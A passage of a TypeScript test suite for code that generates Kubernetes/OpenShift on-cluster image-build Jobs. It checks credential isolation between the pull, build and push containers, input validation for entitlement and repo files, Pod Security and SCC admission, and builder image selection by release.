    const podRequest = Math.max(...pod.initContainers.map((x: any) => x.resources.requests['ephemeral-storage']).map(parseGi), pod.containers.map((x: any) => parseGi(x.resources.requests['ephemeral-storage'])).reduce((a: number, b: number) => a + b, 0));
    expect(podRequest).toBe(podStorageLimit(pod));
    expect(c.env).toEqual(expect.arrayContaining([{ name: 'TMPDIR', value: '/tmp' }, { name: 'HOME', value: '/tmp/home' }]));
    expect(BUILD_SCRIPT).toContain('--target final');
    // No registries.conf unless given.
    expect(c.env.map((e: any) => e.name)).not.toContain('CONTAINERS_REGISTRIES_CONF');
    expect((buildConfigMap(input, { metadata: { name: 'j', uid: 'u' } }) as any).data).not.toHaveProperty(['registries.conf']);
    const withConf = { ...input, registriesConf: '[[registry]]\nlocation = "mirror.example"\n' };
    expect((buildConfigMap(withConf, { metadata: { name: 'j', uid: 'u' } }) as any).data['registries.conf']).toBe(withConf.registriesConf);
    expect((buildJob(withConf) as any).spec.template.spec.containers[0].env).toContainEqual({ name: 'CONTAINERS_REGISTRIES_CONF', value: '/var/run/on-cluster-build/containerfile/registries.conf' });
    expect(buildJob(input)).toEqual(buildJob(input));
    // No object is shared between two Jobs: editing one leaves the next as it was.
    const a = buildJob(input) as any;
    a.spec.template.spec.containers[0].securityContext.capabilities.drop.push('SETUID');
    expect((buildJob(input) as any).spec.template.spec.containers[0].securityContext.capabilities.drop).not.toContain('SETUID');
  });

  it('entitlements, repositories, GPG keys: mounted only when there are some, from the build Secret, apart from the registry credentials; bounded', () => {
    const pod = (buildJob(input) as any).spec.template.spec;
    expect(pod.volumes.map((v: any) => v.name)).toEqual(['pull-credentials', 'push-credentials', 'containerfile', 'base', 'build', 'scratch']);
    expect(pod.volumes.find((v: any) => v.name === 'pull-credentials').secret.items).toEqual([{ key: 'base.json', path: 'base.json' }]);
    expect(pod.volumes.find((v: any) => v.name === 'push-credentials').secret.items).toEqual([{ key: 'push.json', path: 'push.json' }]);
    const ent = { ...input, runFiles: { entitlement: ['entitlement.pem', 'entitlement-key.pem'] } };
    const p2 = (buildJob(ent) as any).spec.template.spec;
    expect(p2.volumes.find((v: any) => v.name === 'entitlement')).toEqual({
      name: 'entitlement',
      secret: { secretName: input.jobName, defaultMode: 0o444, items: [{ key: 'entitlement.entitlement-key.pem', path: 'entitlement-key.pem' }, { key: 'entitlement.entitlement.pem', path: 'entitlement.pem' }] },
    });
    // In the build container only: the one that runs RUN steps.
    expect(p2.initContainers[1].volumeMounts).toContainEqual({ name: 'entitlement', mountPath: '/var/run/on-cluster-build/entitlement', readOnly: true });
    expect([p2.initContainers[0], p2.containers[0]].flatMap((c: any) => c.volumeMounts.map((m: any) => m.name))).not.toContain('entitlement');
    const b64 = (t: string) => Buffer.from(t).toString('base64');
    const sec = buildSecret(ent, { metadata: { name: 'j', uid: 'u' } }, '{}', '{}', { entitlement: { 'entitlement.pem': b64('c') } }) as any;
    expect(Object.keys(sec.data).sort()).toEqual(['base.json', 'entitlement.entitlement.pem', 'push.json']);
    expect(runFiles('entitlement', { 'entitlement.pem': b64('c'), 'entitlement-key.pem': b64('k') }, 'S')).toEqual({ files: { 'entitlement-key.pem': b64('k'), 'entitlement.pem': b64('c') } });
    expect(runFiles('yum-repos', { 'a.repo': '[a]\n' }, 'S', 'text')).toEqual({ files: { 'a.repo': b64('[a]\n') } });
    expect(runFiles('entitlement', { 'tls.crt': b64('secret-value') }, 'Secret x/y')).toEqual({ error: 'Secret x/y: key "tls.crt" is not a *.pem file name (entitlement certificates and keys are PEM files: entitlement.pem, entitlement-key.pem)' });
    expect(runFiles('yum-repos', { 'a.conf': 'x' }, 'C', 'text')).toEqual({ error: 'C: key "a.conf" is not a *.repo file name' });
    expect(runFiles('rpm-gpg', { '..data': b64('x') }, 'S')).toMatchObject({ error: expect.stringContaining('is not a file name') });
    expect(runFiles('entitlement', {}, 'S')).toEqual({ error: 'S has no data' });
    expect(runFiles('entitlement', { 'a.pem': b64('x'.repeat(RUN_FILES_LIMITS.bytes + 1)) }, 'S')).toEqual({ error: `S holds more than ${RUN_FILES_LIMITS.bytes} bytes; at most that much is passed to a build` });
    const many = Object.fromEntries(Array.from({ length: RUN_FILES_LIMITS.files + 1 }, (_, n) => [`${n}.pem`, b64('x')]));
    expect(runFiles('entitlement', many, 'S')).toMatchObject({ error: expect.stringContaining(`at most ${RUN_FILES_LIMITS.files}`) });
    // A message never holds a value.
    expect(JSON.stringify(runFiles('entitlement', { 'x.txt': b64('secret-value') }, 'S'))).not.toMatch(/secret-value|c2VjcmV0LXZhbHVl/);
  });

  it('credentials: the pull auth file only in the pull container, the push one only in the push container, none in the build container; no token, no shared PID namespace', () => {
    const pod = (buildJob({ ...input, trustBundle: 'PEM', runFiles: { entitlement: ['entitlement.pem'] } }) as any).spec.template.spec;
    const mounts = (c: any) => c.volumeMounts.map((m: any) => m.name).sort();
    const [pull, build] = pod.initContainers;
    const [push] = pod.containers;
    expect(mounts(pull)).toEqual(['base', 'containerfile', 'pull-credentials', 'scratch', 'scratch', 'trust']);
    expect(mounts(build)).toEqual(['base', 'build', 'build', 'containerfile', 'entitlement']);
    expect(mounts(push)).toEqual(['base', 'build', 'containerfile', 'push-credentials', 'scratch', 'scratch', 'trust']);
    // What the build container writes, the others read only; what the pull container writes, the build container reads only.
    const ro = (c: any, v: string) => c.volumeMounts.filter((m: any) => m.name === v && !m.subPath).map((m: any) => !!m.readOnly);
    expect([ro(pull, 'base'), ro(build, 'base'), ro(push, 'base'), ro(push, 'build')]).toEqual([[false], [true], [true], [true]]);
    for (const c of [pull, build, push]) expect(JSON.stringify(c.env)).not.toMatch(/auth|password|token/i);
    expect(pod.automountServiceAccountToken).toBe(false);
    expect(pod.shareProcessNamespace).toBe(false);
  });

  it('readJobEnd: the pushed digest from the push container, a failure message from whichever container failed', async () => {
    const job = (cond: string) => ({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j' }, status: { conditions: [{ type: cond, status: 'True' }] } });
    const pod = (init: object[], app: object[]) => [{ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', creationTimestamp: '2026-11-27T00:00:00Z' }, status: { initContainerStatuses: init, containerStatuses: app } }];
    const t = (exitCode: number, message: string) => ({ state: { terminated: { exitCode, message } } });
    const d = 'sha256:' + 'e'.repeat(64);
    expect(await readJobEnd(job('Complete'), async () => pod([t(0, ''), t(0, '')], [t(0, d)]))).toMatchObject({ state: 'complete', digest: d });
    expect(await readJobEnd(job('Failed'), async () => pod([t(0, ''), t(2, 'build failed (exit 2):\nError: x')], [{ state: { waiting: {} } }]))).toMatchObject({ state: 'failed', lastMessage: 'build failed (exit 2):\nError: x' });
  });

  it('the namespace admits it (Pod Security "baseline"), "restricted" would not', () => {
    const pod = (buildJob(input) as any).spec.template.spec;
    const ns = parseYaml(readFileSync(path.join(ROOT, `package/hosted-api/${API_BUILD_NAMESPACE}.Namespace.yaml`), 'utf8'));
    expect(ns.metadata.labels).toMatchObject({
      'pod-security.kubernetes.io/enforce': 'baseline',
      'security.openshift.io/scc.podSecurityLabelSync': 'false',
    });
    expect(podSecurityViolations(pod, 'baseline')).toEqual([]);
    expect(podSecurityViolations(pod, 'restricted')).toEqual(['allowPrivilegeEscalation', 'capabilities_restricted', 'seccompProfile_restricted']);
  });

  it('restricted-v2 refuses it, and anyuid refuses a seccomp profile or an added capability', () => {
    const pod = (buildJob(input) as any).spec.template.spec;
    const c = pod.containers[0];
    expect(() => admit(pod, c, restrictedV2, CRIO_DEFAULT_CAPABILITIES, { user: 0, users: [], groups: [], subordinateIds: [], files: [], env: [] })).toThrow(SccRefusal);
    expect(() => admit(pod, c, restrictedV2, CRIO_DEFAULT_CAPABILITIES, { user: 0, users: [], groups: [], subordinateIds: [], files: [], env: [] })).toThrow(/runAsUser: Invalid value: 1000[\s\S]*allowPrivilegeEscalation/);
    const img = { user: 0, users: [], groups: [], subordinateIds: [], files: [], env: [] };
    expect(() => admit({ ...pod, securityContext: { ...pod.securityContext, seccompProfile: { type: 'RuntimeDefault' } } }, c, anyuid, CRIO_DEFAULT_CAPABILITIES, img)).toThrow(/seccomp may not be set/);
    const adding = { ...c, securityContext: { ...c.securityContext, capabilities: { drop: ['ALL'], add: ['SETUID', 'SETGID'] } } };
    expect(() => admit(pod, adding, anyuid, CRIO_DEFAULT_CAPABILITIES, img)).toThrow(/capability may not be added/);
  });

  it('builderImageFor: the release MCO image from 4.17, ours before, a reason when neither', () => {
    const mco = 'quay.io/ocp/mco@sha256:' + '1'.repeat(64);
    const own = 'quay.io/app-sre/on-cluster-build@sha256:' + '2'.repeat(64);
    expect(builderImageFor({ releaseVersion: '4.17.0', mcoImage: mco, ownImage: own })).toEqual({ image: mco, source: 'release' });
    expect(builderImageFor({ releaseVersion: '4.18.0-rc.2', mcoImage: mco })).toEqual({ image: mco, source: 'release' });
    expect(builderImageFor({ releaseVersion: '5.0.1', mcoImage: mco })).toEqual({ image: mco, source: 'release' });
    expect(builderImageFor({ releaseVersion: '4.16.12', mcoImage: mco, ownImage: own })).toEqual({ image: own, source: 'own' });
    expect(builderImageFor({ releaseVersion: '4.14.0', mcoImage: mco, ownImage: own })).toEqual({ image: own, source: 'own' });
    expect(builderImageFor({ releaseVersion: '4.15.3', mcoImage: mco })).toEqual({ refused: "release 4.15's machine-config-operator image has no buildah (it ships from 4.17 on) and no on-cluster-build image with buildah is configured" });
    expect(builderImageFor({ releaseVersion: '4.13.9', mcoImage: mco, ownImage: own })).toEqual({ refused: 'release 4.13 is older than 4.14, the oldest NodePool release HyperShift supports' });
    expect(builderImageFor({ releaseVersion: 'latest', mcoImage: mco, ownImage: own })).toEqual({ refused: 'release version "latest" is not MAJOR.MINOR[.PATCH]' });
  });
});
